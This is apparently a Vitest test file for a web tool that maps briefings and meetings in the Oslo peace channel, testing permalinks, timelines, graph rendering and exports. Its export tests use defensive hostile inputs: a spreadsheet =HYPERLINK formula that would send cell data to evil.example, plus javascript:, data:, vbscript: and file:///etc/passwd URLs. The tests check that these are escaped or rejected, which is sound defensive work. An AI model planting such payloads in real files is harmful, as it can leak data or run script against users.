// The web explorer's pure core: permalinks, dates on the timeline, canvas classes, what-if diffs and exports.
import { describe, expect, it } from 'vitest';
import { brokenEdgeId, dayRange, isUncertain, meetingScene, partialScene, pathDiff, pathElementIds, sceneElements, validAt, type SceneEdge } from '../../web/graph-model.ts';
import { DEFAULT_VIEW, decodeView, encodeView, type View } from '../../web/permalink.ts';
import { pathsCsv, pathsJson, toSvg, webUrl } from '../../web/exports.ts';
import type { Link, NodeBrief, Path, PathResult } from '../../web/types.ts';
import { XMLParser, XMLValidator } from 'fast-xml-parser';

const source = { id: 'source/waage-2004', name: 'Waage', title: 'Peacemaking Is a Risky Business', author: 'H. H. Waage', outlet: 'PRIO', date: '2004', url: 'https://www.prio.org/' };
const person = (slug: string, name: string, side = 'israeli', offices: NodeBrief['offices'] = []): NodeBrief => ({ __typename: 'Person', id: `person/${slug}`, kind: 'PERSON', name, side, offices });
const link = (id: string, from: NodeBrief, to: NodeBrief, extra: Partial<Link> = {}): Link => ({
  id, type: 'BRIEFED', family: 'TRANSMISSION', from, to, confidence: 'HIGH', outcome: 'ACCEPTED', role: null, side: null, title: null, rank: null, place: null, note: null,
  sentence: `${from.name} briefed ${to.name}`, citations: [{ source, locator: 'p. 12' }], disputes: [],
  when: { text: '1993-02~', label: 'c. Feb 1993', from: '1993-02-01', to: '1993-02-28', point: true, approximate: true }, ...extra,
});

const beilin = person('yossi-beilin', 'Yossi Beilin');
const peres = person('shimon-peres', 'Shimon Peres', 'israeli', [{ id: 'o1', rank: 'leader', title: 'Foreign Minister', when: { text: '', label: '', from: '1992-07-13', to: '1995-11-22', point: false, approximate: false }, to: { id: 'government/israel', name: 'Israel' } }]);
const rabin = person('yitzhak-rabin', 'Yitzhak Rabin');
const briefedPeres = link('link/beilin-peres', beilin, peres);
const briefedRabin = link('link/peres-rabin', peres, rabin, { confidence: 'MEDIUM', sentence: 'Peres briefed Rabin, "in person"', when: { text: '1993-03', label: 'Mar 1993', from: '1993-03-01', to: '1993-03-31', point: true, approximate: false } });

function path(rank: number, hops: Link[], nodes: NodeBrief[]): Path {
  return {
    rank, hopCount: hops.length, arrival: '1993-03-01', arrivalLabel: '1 Mar 1993', earliestArrival: '1993-03-01', latestArrival: '1993-03-31', arrivalRangeLabel: '1 Mar 1993 – 31 Mar 1993', certain: false, evidence: 0.7, weakestHop: hops.length - 1,
    source: nodes[0], decisionMaker: rabin, government: null, nodes,
    hops: hops.map((l) => ({ link: l, from: l.from, to: l.to, against: false, instant: l.when?.from ?? null, sentence: l.sentence })),
  };
}
const result: PathResult = { static: false, stopReason: null, explanation: null, datasetVersion: 'abc', closest: null, paths: [path(1, [briefedPeres, briefedRabin], [beilin, peres, rabin])] };

describe('permalinks', () => {
  it('round-trip a full view and leave defaults out of the URL', () => {
    const view: View = { ...DEFAULT_VIEW, version: 'abc123', tab: 'details', focus: 'person/yossi-beilin', selected: 'link/x', from: 'channel/oslo-1992', to: 'government/israel',
      windowFrom: '1992-12', windowTo: '1993-09', time: 'WITHIN_WINDOW', mode: 'DOCUMENTED', linkTypes: ['BRIEFED', 'MET'], k: 3, maxHops: 4, exclude: ['person/yossi-beilin'],
      path: 2, compare: 1, at: '1993-02', meetA: 'person/a', meetB: 'person/b', hiddenTypes: ['ATTENDED'], scene: 'paths' };
    expect(decodeView(`#${encodeView(view)}`)).toEqual(view);
    expect(encodeView(DEFAULT_VIEW)).toBe('');
  });

  it('round-trip a who-met-whom view with its window', () => {
    const view: View = { ...DEFAULT_VIEW, tab: 'meet', meetA: 'person/a', meetB: 'person/b', meetFrom: '1992', meetTo: '1993-09', scene: 'meet' };
    expect(decodeView(`#${encodeView(view)}`)).toEqual(view);
  });

  it('ignore malformed values instead of failing', () => {
    const view = decodeView('#wf=yesterday&k=999&time=SOMETIMES&types=BRIEFED,NOPE&path=-1&at=1993');
    expect(view.windowFrom).toBe('');
    expect(view.k).toBe(DEFAULT_VIEW.k);
    expect(view.time).toBe('RESPECTING');
    expect(view.linkTypes).toEqual(['BRIEFED']);
    expect(view.path).toBeNull();
    expect(view.at).toBeNull();
  });
});

describe('dates on the timeline', () => {
  it('expand partial dates to their first and last day', () => {
    expect(dayRange('1993')).toEqual(['1993-01-01', '1993-12-31']);
    expect(dayRange('1992-02')).toEqual(['1992-02-01', '1992-02-29']);
    expect(dayRange('1993-09-13')).toEqual(['1993-09-13', '1993-09-13']);
  });

  it('show a link in the months its interval touches, open ends included', () => {
    expect(validAt(briefedPeres.when, '1993-02')).toBe(true);
    expect(validAt(briefedPeres.when, '1993-03')).toBe(false);
    expect(validAt({ from: null, to: '1993-05-31' }, '1980-01')).toBe(true);
    expect(validAt({ from: '1993-04-02', to: null }, '2009-12')).toBe(true);
    expect(validAt(null, '1970-01')).toBe(true);
  });
});

describe('canvas classes', () => {
  const edges: SceneEdge[] = [briefedPeres, briefedRabin].map((l) => ({ id: l.id, source: l.from.id, target: l.to.id, link: l }));
  const base = { nodes: new Map([beilin, peres, rabin].map((n) => [n.id, n])), edges, hiddenTypes: new Set<never>(), date: null, highlightA: new Set<string>(), highlightB: new Set<string>(), focus: null, selected: null, leaders: new Set<string>(), excluded: new Set<string>() };
  const classesOf = (els: ReturnType<typeof sceneElements>, id: string) => els.find((e) => e.data.id === id)!.classes.split(' ');

  it('mark link families, uncertainty and leaders', () => {
    const els = sceneElements(base);
    expect(classesOf(els, 'link/beilin-peres')).toEqual(expect.arrayContaining(['fam-transmission', 'uncertain']));
    expect(classesOf(els, 'link/peres-rabin')).not.toContain('uncertain');
    expect(classesOf(els, 'person/shimon-peres')).toContain('leader');
    expect(classesOf(els, 'person/yossi-beilin')).not.toContain('leader');
    expect(isUncertain({ confidence: 'LOW', when: null })).toBe(true);
  });

  it('hide links outside the timeline date and the people they isolate', () => {
    const els = sceneElements({ ...base, date: '1993-03' });
    expect(classesOf(els, 'link/beilin-peres')).toContain('hidden');
    expect(classesOf(els, 'person/yossi-beilin')).toContain('hidden');
    expect(classesOf(els, 'person/shimon-peres')).not.toContain('hidden');
  });

  it('keep the selected path\'s hops drawn, marked off-date, when the timeline month is outside them', () => {
    const els = sceneElements({ ...base, date: '1993-03', highlightA: pathElementIds(result.paths[0]) });
    expect(classesOf(els, 'link/beilin-peres')).not.toContain('hidden');
    expect(classesOf(els, 'link/beilin-peres')).toContain('off-date');
    expect(classesOf(els, 'person/yossi-beilin')).not.toContain('hidden');
    expect(classesOf(els, 'link/peres-rabin')).not.toContain('off-date');
  });

  it('highlight the selected path and fade the rest', () => {
    const ids = pathElementIds(result.paths[0]);
    const els = sceneElements({ ...base, edges: [...edges, { id: 'other', source: beilin.id, target: rabin.id, link: link('other', beilin, rabin) }], highlightA: ids });
    expect(classesOf(els, 'link/peres-rabin')).toContain('hl-a');
    expect(classesOf(els, 'other')).toContain('faded');
  });
});

describe('what if', () => {
  it('lists the paths that disappeared and those that remain', () => {
    const other = path(2, [briefedRabin], [peres, rabin]);
    const before = { ...result, paths: [...result.paths, other] };
    const after = { ...result, paths: [{ ...other, rank: 1 }] };
    const diff = pathDiff(before, after);
    expect(diff.lost.map((p) => p.rank)).toEqual([1]);
    expect(diff.kept.map((p) => p.hopCount)).toEqual([1]);
    expect(diff.added).toEqual([]);
  });

  it('tell apart two paths through the same people by different links', () => {
    const reported = link('link/beilin-peres-report', beilin, peres);
    const byBriefing = path(1, [briefedPeres, briefedRabin], [beilin, peres, rabin]);
    const byReport = path(2, [reported, briefedRabin], [beilin, peres, rabin]);
    const before = { ...result, paths: [byBriefing, byReport] };
    const after = { ...result, paths: [] };
    const diff = pathDiff(before, after);
    expect(diff.lost.map((p) => p.rank)).toEqual([1, 2]);
    expect(diff.kept).toEqual([]);
  });
});

describe('no path', () => {
  it('draws the route to the closest approach and the hop that broke, marked and not faded', () => {
    const partial = path(1, [briefedPeres], [beilin, peres]);
    const broken = { ...briefedRabin, from: peres, to: rabin };
    const scene = partialScene(partial, { node: peres, hops: 1, arrival: null, brokenLink: broken });
    expect([...scene.nodes.keys()].sort()).toEqual([beilin.id, peres.id, rabin.id].sort());
    const els = sceneElements({ nodes: scene.nodes, edges: scene.edges, hiddenTypes: new Set(), date: null, highlightA: pathElementIds(partial), highlightB: new Set(), focus: null, selected: null, leaders: new Set(), excluded: new Set(), broken: scene.broken });
    const classes = (id: string) => els.find((e) => e.data.id === id)!.classes.split(' ');
    expect(classes(brokenEdgeId(briefedRabin.id))).toContain('broken');
    expect(classes(brokenEdgeId(briefedRabin.id))).not.toContain('faded');
    expect(classes(rabin.id)).not.toContain('faded');
    expect(classes(briefedPeres.id)).toContain('hl-a');
  });
});

describe('who met whom', () => {
  it('draws each chain\'s people and co-presences, one line per meeting however many chains share it', () => {
    const hop = (from: NodeBrief, to: NodeBrief) => ({ kind: 'SESSION' as const, from, to, when: null, place: null, session: { id: 'session/x', name: 'X' }, channel: null, citations: [] });
    const scene = meetingScene({ explanation: null, chains: [
      { people: [beilin, rabin], hops: [hop(beilin, rabin)] },
      { people: [beilin, peres, rabin], hops: [hop(beilin, peres), hop(peres, rabin)] },
    ] });
    expect([...scene.nodes.keys()].sort()).toEqual([beilin.id, peres.id, rabin.id].sort());
    expect(scene.edges).toHaveLength(3);
    expect([...scene.chains[1]].filter((id) => id.startsWith('person/')).sort()).toEqual([beilin.id, peres.id, rabin.id].sort());
    expect(scene.edges[0].link.sentence).toBe('Yossi Beilin attended the same session as Yitzhak Rabin (X)');
  });
});

describe('exports', () => {
  it('write one CSV row per hop, quoting commas and quotes', () => {
    const rows = pathsCsv(result).trim().split('\r\n');
    expect(rows).toHaveLength(3);
    expect(rows[2]).toContain('"Peres briefed Rabin, ""in person"""');
    expect(rows[2]).toContain('Peacemaking Is a Risky Business, p. 12');
  });

  it('write JSON with the query and a bibliography', () => {
    const json = JSON.parse(pathsJson({ from: 'person/yossi-beilin', to: 'person/yitzhak-rabin' }, result, 'http://x/#from=a'));
    expect(json.bibliography).toEqual([{ id: source.id, title: source.title, author: source.author, outlet: source.outlet, date: source.date, url: source.url }]);
    expect(json.paths[0].hops.map((h: { linkId: string }) => h.linkId)).toEqual(['link/beilin-peres', 'link/peres-rabin']);
  });

  it('write path CSV that a spreadsheet shows as text and never runs as a formula', () => {
    const evil = person('evil', '=HYPERLINK("http://evil.example/?x="&A1,"click")');
    const hop = link('link/evil', evil, rabin, { sentence: '+1 briefed @someone', citations: [{ source: { ...source, title: '-2+3', url: 'javascript:alert(1)' }, locator: '\tcmd' }] });
    const rows = pathsCsv({ ...result, paths: [path(1, [hop], [evil, rabin])] }).trim().split('\r\n');
    expect(rows[1]).toBe([
      '1', '1', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`, 'BRIEFED', 'Yitzhak Rabin', "'+1 briefed @someone", 'c. Feb 1993', '1993-02-01',
      'high', 'yes', 'possible', '0.700', '1993-03-01', `"'-2+3, \tcmd"`, '',
    ].join(','));
  });

  it('link sources only to http and https addresses', () => {
    expect(webUrl('https://www.prio.org/')).toBe('https://www.prio.org/');
    expect(webUrl('http://example.org/a?b')).toBe('http://example.org/a?b');
    for (const bad of ['javascript:alert(1)', 'JavaScript:alert(1)', 'data:text/html,<script>1</script>', 'vbscript:x', 'file:///etc/passwd', '//evil.example', 'not a url', '', null]) {
      expect(webUrl(bad)).toBeUndefined();
    }
    const json = JSON.parse(pathsJson({ from: 'a', to: 'b' }, { ...result, paths: [path(1, [link('l', beilin, rabin, { citations: [{ source: { ...source, url: 'javascript:alert(1)' }, locator: null }] })], [beilin, rabin])] }, 'http://x/'));
    expect(json.bibliography[0].url).toBeNull();
  });

  it('write SVG that stays well-formed XML whatever a name contains', () => {
    const names = ['a\u0000b\u0007c\u001Fd', 'lone \uD800 high', 'lone \uDC00 low', 'pair 😀 ok', "it's <b>&amp;</b> \"q\"", ']]><!--', '\uFFFE\uFFFF'];
    const svg = toSvg(names.map((label, i) => ({ type: 'node' as const, id: `n${i}"'<>&`, x: i * 10, y: 0, w: 20, h: 20, shape: 'ellipse', colour: '#fff', border: '#000', borderWidth: 1, opacity: 1, label })));
    expect(XMLValidator.validate(svg)).toBe(true);
    // XML 1.0's Char production: anything else makes every conforming parser stop.
    expect(svg.match(/[^\t\n\r\u0020-\uD7FF\uE000-\uFFFD\u{10000}-\u{10FFFF}]/gu)).toBeNull();
    const parsed = new XMLParser({ ignoreAttributes: false, htmlEntities: false }).parse(svg);
    const groups = parsed.svg.g as { '@_data-id': string; text: string | { '#text': string } }[];
    expect(groups.map((g) => g['@_data-id'])).toEqual(names.map((_, i) => `n${i}"'<>&`));
    expect(svg).toContain('>abcd</text>');
    expect(svg).toContain('>lone  high</text>');
    expect(svg).toContain('>pair 😀 ok</text>');
    expect(svg).toContain('>it&apos;s &lt;b&gt;&amp;amp;&lt;/b&gt; &quot;q&quot;</text>');
  });

  it('write SVG that escapes labels', () => {
    const svg = toSvg([
      { type: 'node', id: 'a', x: 0, y: 0, w: 20, h: 20, shape: 'diamond', colour: '#fff', border: '#000', borderWidth: 1, opacity: 1, label: 'Rød-Larsen & <Co>' },
      { type: 'edge', id: 'e', x1: 0, y1: 0, x2: 50, y2: 0, colour: '#000', width: 2, dashed: true, arrow: true, opacity: 1, label: '' },
    ]);
    expect(svg).toContain('Rød-Larsen &amp; &lt;Co&gt;');
    expect(svg).toMatch(/<polygon points=/);
    expect(svg).toContain('stroke-dasharray');
  });

  it('write a bent edge as the curve the canvas draws, not a straight line through what it goes around', () => {
    const svg = toSvg([{ type: 'edge', id: 'e', x1: 0, y1: 0, x2: 100, y2: 0, colour: '#000', width: 2, dashed: false, arrow: true, opacity: 1, label: '', controls: [{ x: 50, y: 60 }] }]);
    expect(svg).toContain('<path d="M 0 0 Q 50 60 100 0" fill="none"');
    expect(svg).not.toContain('<line');
  });
});
